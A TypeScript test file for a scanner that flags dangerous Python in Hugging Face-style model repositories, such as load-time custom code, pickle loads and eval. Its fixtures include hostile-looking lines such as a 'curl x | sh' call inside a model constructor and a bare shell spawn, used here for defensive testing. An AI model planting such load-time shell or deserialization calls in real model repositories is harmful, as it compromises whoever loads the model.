import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { createHfRepoDetector, hfRepoDetector } from './detector.ts';
import { card, customCodeRepo, json, modelRepo } from './testing/builders.ts';
import { hasControlChars, ofRule, runRepoDetector } from './testing/fake-repo.ts';

describe('hfRepoDetector', () => {
  describe('applies', () => {
    it('accepts folders with model files, model configs or a README at the top', () => {
      assert.equal(hfRepoDetector.applies(['model.safetensors']), true);
      assert.equal(hfRepoDetector.applies(['config.json', 'x.py']), true);
      assert.equal(hfRepoDetector.applies(['README.md']), true);
      assert.equal(hfRepoDetector.applies(['pytorch_model-00001-of-00002.bin']), true);
      assert.equal(hfRepoDetector.applies(['tokenizer_config.json']), true);
      assert.equal(hfRepoDetector.applies(['model.gguf']), true);
    });

    it('rejects folders whose markers are only in subfolders, or that have none', () => {
      assert.equal(hfRepoDetector.applies(['src/config.json', 'main.py']), false);
      assert.equal(hfRepoDetector.applies(['model.pt', 'train.py']), false);
      assert.equal(hfRepoDetector.applies([]), false);
    });
  });

  describe('when the folder is not a model repository after all', () => {
    it('reports nothing, even for dangerous Python', async () => {
      const run = await runRepoDetector(hfRepoDetector, {
        'config.json': json({ port: 8080, debug: true }),
        'README.md': card(),
        'deploy.py': 'import os\nos.system("make deploy")\n',
      });
      assert.deepEqual(run.reports, []);
    });
  });

  describe('when a clean repository is scanned', () => {
    it('reports only its licence', async () => {
      const run = await runRepoDetector(hfRepoDetector, modelRepo());
      assert.deepEqual(
        run.reports.map((r) => r.ruleId),
        ['hf/license'],
      );
      assert.deepEqual(run.reports[0]?.evidence, { license: 'apache-2.0' });
    });
  });

  describe('when a README front matter alone makes the folder a repository', () => {
    it('reviews its Python files', async () => {
      const run = await runRepoDetector(hfRepoDetector, {
        'README.md': card('license: mit', 'pipeline_tag: text-generation'),
        'handler.py': 'import subprocess\nsubprocess.Popen(["sh"])\n',
      });
      assert.deepEqual(
        ofRule(run, 'hf/dangerous-code').map((r) => r.evidence?.['call']),
        ['subprocess.Popen'],
      );
    });
  });

  describe('when custom code runs at load time', () => {
    it('reports dangerous calls in the auto_map module as critical, with line and column', async () => {
      const run = await runRepoDetector(
        hfRepoDetector,
        customCodeRepo(
          'import os as o\n\nclass CustomModel:\n    def __init__(self):\n        o.system("curl x | sh")\n',
        ),
      );
      const [finding] = ofRule(run, 'hf/dangerous-code');
      assert.equal(finding?.file, 'modeling_custom.py');
      assert.equal(finding?.severity, 'critical');
      assert.deepEqual([finding?.line, finding?.column], [5, 9]);
      assert.equal(finding?.evidence?.['call'], 'os.system');
      assert.equal(finding?.evidence?.['written'], 'o.system');
      assert.equal(finding?.evidence?.['referencedBy'], 'config.json');
      assert.match(finding?.message ?? '', /runs when the model is loaded/);
    });

    it('follows relative imports from load-time modules, and leaves other files at high', async () => {
      const run = await runRepoDetector(
        hfRepoDetector,
        customCodeRepo('from .layers import block\nfrom . import utils\n', {
          'layers.py': 'import pickle\ndef block(b):\n    return pickle.loads(b)\n',
          'utils/__init__.py': 'eval(input())\n',
          'train.py': 'import requests\nrequests.get("https://example.com")\n',
        }),
      );
      const found = ofRule(run, 'hf/dangerous-code').map(
        (r) => `${r.file}:${r.evidence?.['call']}:${r.severity ?? 'high'}`,
      );
      assert.deepEqual(found, [
        'layers.py:pickle.loads:critical',
        'utils/__init__.py:builtins.eval:critical',
        'train.py:requests.get:high',
      ]);
    });

    it('does not report calls that only appear in strings and comments', async () => {
      const run = await runRepoDetector(
        hfRepoDetector,
        customCodeRepo(
          '# os.system("x")\nDOC = """eval(x)"""\nclass CustomModel:\n    def eval(self): return "exec(y)"\n',
        ),
      );
      assert.deepEqual(ofRule(run, 'hf/dangerous-code'), []);
    });
  });

  describe('when a file has more dangerous uses than the per-file cap', () => {
    it('lists the first ones and sums up the rest in one finding', async () => {
      const detector = createHfRepoDetector({ maxFindingsPerFile: 3 });
      const run = await runRepoDetector(
        detector,
        modelRepo({ 'x.py': 'import os\n' + 'os.system("a")\n'.repeat(10) }),
      );
      const found = ofRule(run, 'hf/dangerous-code');
      assert.equal(found.length, 4);
      assert.equal(found[3]?.evidence?.['more'], 7);
      assert.equal(found[3]?.line, 5);
      assert.notEqual(found[0]?.key?.join(), found[1]?.key?.join());
    });
  });

  describe('when repository-derived text contains control characters', () => {
    it('escapes it in messages', async () => {
      const run = await runRepoDetector(
        hfRepoDetector,
        modelRepo({
          'config.json': json({
            model_type: 'x',
            auto_map: { AutoModel: 'evil\u001b[31m\n.Model' },
          }),
        }),
      );
      const [finding] = ofRule(run, 'hf/remote-code-required');
      assert.ok(finding !== undefined);
      assert.equal(hasControlChars(finding.message), false);
      assert.match(finding.message, /\\u001b/);
    });
  });

  describe('when subfolders are repositories of their own', () => {
    it('leaves them to their own run and reviews ordinary subfolders', async () => {
      const files = modelRepo({
        'model_index.json': json({
          _class_name: 'StableDiffusionPipeline',
          unet: ['diffusers', 'UNet2DConditionModel'],
        }),
        'unet/config.json': json({
          _class_name: 'UNet2DConditionModel',
          _diffusers_version: '0.30.0',
        }),
        'unet/diffusion_pytorch_model.bin': 'pickle',
        'unet/helper.py': 'import os\nos.system("x")\n',
        'scripts/run.py': 'import os\nos.popen("x")\n',
      });
      const root = await runRepoDetector(hfRepoDetector, files);
      assert.deepEqual(
        root.reports.filter((r) => r.ruleId !== 'hf/license').map((r) => r.file),
        ['scripts/run.py'],
      );
    });
  });

  describe('when a file cannot be read', () => {
    it('reports the Python file as not reviewed', async () => {
      const run = await runRepoDetector(hfRepoDetector, modelRepo({ 'a.py': 'x = 1\n' }), {
        unreadable: ['a.py'],
      });
      assert.deepEqual(
        ofRule(run, 'hf/code-not-reviewed').map((r) => [r.file, r.evidence?.['code']]),
        [['a.py', 'HF_UNREADABLE']],
      );
    });
  });
});
